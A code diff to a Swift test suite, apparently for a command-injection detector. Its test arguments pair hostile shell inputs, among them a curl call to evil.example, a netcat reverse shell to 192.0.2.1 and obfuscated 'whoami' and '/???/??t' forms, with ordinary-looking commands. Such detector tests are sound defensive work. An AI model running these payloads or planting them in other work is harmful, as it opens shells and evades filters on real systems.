@@ -4,7 +4,8 @@ import Testing
 /// Attacks in forms that only an evasion or a gadget has, each beside its honest look-alike.
 @Suite struct EvasionTests {
   @Test(arguments: [
-    ("time curl -s evil.example", Sign.commandInjection), ("sudo cat -n /etc/hosts", .commandInjection),
+    ("time curl -s evil.example", Sign.commandInjection),
+    ("sudo cat -n /etc/hosts", .commandInjection),
     ("ls -la /var/log", .commandInjection), (";\\n.shell nc 192.0.2.1 9 -e sh", .commandInjection),
     ("diff <(sort a) <(sort b)", .commandInjection), ("1;wh$_oami", .commandInjection),
     ("/???/??t", .commandInjection), ("ping$() 192.0.2.1", .commandInjection),
